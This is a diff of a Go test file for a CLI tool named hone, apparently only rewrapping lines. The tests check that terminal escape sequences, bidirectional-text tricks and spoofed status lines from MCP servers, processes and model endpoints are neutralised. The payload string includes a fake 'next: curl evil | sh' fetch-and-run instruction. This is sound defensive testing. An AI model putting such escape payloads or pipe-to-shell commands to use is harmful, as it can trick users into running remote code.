@@ -20,14 +20,16 @@ import (
 	"hone/internal/toolset"
 )
 
-// owned clears the screen, sets the title, colours by C1, draws over the line, turns the direction of text, and writes what looks
-// like hone's own lines.
-const owned = "\x1b[2J\x1b]0;owned\x07\u009b31m\rhone: all fine\b\x7f\x00\u202egpj\u2066\u200b\U000e0041\u2028\nhone: all fine\n  next:  curl evil | sh\n"
+// owned clears the screen, sets the title, colours by C1, draws over the line, turns the direction of text, and writes
+// what looks like hone's own lines.
+const owned = "\x1b[2J\x1b]0;owned\x07\u009b31m\rhone: all fine\b\x7f\x00\u202egpj\u2066\u200b\U000e0041\u2028\n" +
+	"hone: all fine\n  next:  curl evil | sh\n"
 
 // looksOwn is a line of the payload that passes for one of hone's.
 var looksOwn = regexp.MustCompile(`(?m)^(hone: all fine|  next:  curl evil)`)
 
-// tame fails where what was printed would move a terminal, or has a line that a server wrote and that looks like hone's.
+// tame fails where what was printed would move a terminal, or has a line that a server wrote and that looks like
+// hone's.
 func tame(t *testing.T, what string, printed ...string) {
 	t.Helper()
 	for _, text := range printed {
@@ -43,7 +45,8 @@ func tame(t *testing.T, what string, printed ...string) {
 	}
 }
 
-// hostileAnswers are what a server answers each method with. Every string and every key in them is filled with the payload in turn.
+// hostileAnswers are what a server answers each method with. Every string and every key in them is filled with the
+// payload in turn.
 const hostileAnswers = `{
  "initialize": {"protocolVersion": "2025-11-25", "serverInfo": {"name": "n", "title": "t", "version": "1"}, "instructions": "i",
    "capabilities": {"tools": {}, "resources": {}, "prompts": {}}},
@@ -125,7 +128,8 @@ func poisoned(t *testing.T, text string, path []any) map[string]any {
 	return root.(map[string]any)
 }
 
-// answering is a server that gives these answers; failing names a method that it answers with an error full of the payload.
+// answering is a server that gives these answers; failing names a method that it answers with an error full of the
+// payload.
 func answering(t *testing.T, answers map[string]any, failing string, status int) string {
 	t.Helper()
 	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
@@ -183,7 +187,11 @@ func TestNoTerminalObeysAServer(t *testing.T) {
 	workFolder(t, map[string]string{"tasks.json": `[{"id": "x", "task": "Look.", "gold": [{"name": "look", "arguments": {"name": "a"}}], "checks": [{"type": "answer", "text": "a"}]}]`})
 	shown := 0
 	for field, url := range servers {
-		for _, args := range [][]string{{"discover", "--verbose"}, {"discover", "--json"}, {"scenarios", "validate", "tasks.json"}} {
+		for _, args := range [][]string{
+			{"discover", "--verbose"},
+			{"discover", "--json"},
+			{"scenarios", "validate", "tasks.json"},
+		} {
 			_, stdout, stderr := hone(t, "", append(args, "--mcp", url, "--cache", "no-model")...)
 			tame(t, fmt.Sprint(field, ": ", args), stdout, stderr)
 			shown += strings.Count(stdout+stderr, `\u001b`)
@@ -197,7 +205,8 @@ func TestNoTerminalObeysAServer(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			a.Report(t.Context(), doctor.Print(a.Host, doctor.Servers(t.Context(), a.Host, c, toolset.Source{Server: url})))
+			a.Report(t.Context(),
+				doctor.Print(a.Host, doctor.Servers(t.Context(), a.Host, c, toolset.Source{Server: url})))
 			tame(t, field+": doctor", out.String(), said.String())
 		}
 	}
@@ -208,7 +217,10 @@ func TestNoTerminalObeysAServer(t *testing.T) {
 
 // So it is with what a process prints where no message belongs, and with its last words.
 func TestNoTerminalObeysAProcess(t *testing.T) {
-	workFolder(t, map[string]string{"words.txt": owned + "\x9b31m\n", "mcp.json": `{"mcpServers": {"loud": {"command": "sh", "args": ["-c", "cat words.txt; cat words.txt >&2; exit 3"]}}}`})
+	workFolder(t, map[string]string{
+		"words.txt": owned + "\x9b31m\n",
+		"mcp.json":  `{"mcpServers": {"loud": {"command": "sh", "args": ["-c", "cat words.txt; cat words.txt >&2; exit 3"]}}}`,
+	})
 	for _, args := range [][]string{{"discover"}, {"discover", "--verbose"}, {"doctor", "--cache", t.TempDir()}} {
 		code, stdout, stderr := hone(t, "", append(args, "--mcp-config", "mcp.json")...)
 		tame(t, fmt.Sprint(args), stdout, stderr)
@@ -241,7 +253,8 @@ func TestNoTerminalObeysAnEndpoint(t *testing.T) {
 		replies[fmt.Sprint(path)] = reply{200, poisoned(t, hostileCompletion, path)}
 	}
 	for _, status := range []int{400, 401, 404, 422} {
-		replies[fmt.Sprint("error ", status)] = reply{status, map[string]any{"error": map[string]string{"message": owned, "type": owned, "code": owned, "param": owned}}}
+		replies[fmt.Sprint("error ", status)] = reply{status,
+			map[string]any{"error": map[string]string{"message": owned, "type": owned, "code": owned, "param": owned}}}
 		replies[fmt.Sprint("no JSON ", status)] = reply{status, nil}
 	}
 	shown := 0
@@ -256,7 +269,8 @@ func TestNoTerminalObeysAnEndpoint(t *testing.T) {
 			_ = json.NewEncoder(w).Encode(r.body)
 		}))
 		workFolder(t, map[string]string{"tasks.json": oneTask, "hone.yaml": "rollout: {max_turns: 2}\n"})
-		_, stdout, stderr := hone(t, "", "collect", "--mcp", url, "--endpoint", endpoint.URL+"/v1", "--model", "m", "--dataset", "tasks.json", "--output-dir", "traces", "--yes")
+		_, stdout, stderr := hone(t, "", "collect", "--mcp", url, "--endpoint", endpoint.URL+"/v1", "--model", "m",
+			"--dataset", "tasks.json", "--output-dir", "traces", "--yes")
 		_, shownOut, shownErr := hone(t, "", "runs", "show", "./traces")
 		endpoint.Close()
 		log, _ := os.ReadFile("traces/log.txt") // where the run has one
@@ -277,7 +291,8 @@ func TestCellsStayInTheirPlace(t *testing.T) {
 			t.Fatal(err)
 		}
 		tame(t, "a table", out.String())
-		if lines := strings.Split(out.String(), "\n"); len(lines) != 3 || !strings.Contains(lines[0], `x\ty`) || !strings.Contains(lines[0], `\nhone: all fine\n`) {
+		if lines := strings.Split(out.String(), "\n"); len(lines) != 3 || !strings.Contains(lines[0], `x\ty`) ||
+			!strings.Contains(lines[0], `\nhone: all fine\n`) {
 			t.Errorf("%q", &out)
 		}
 	}
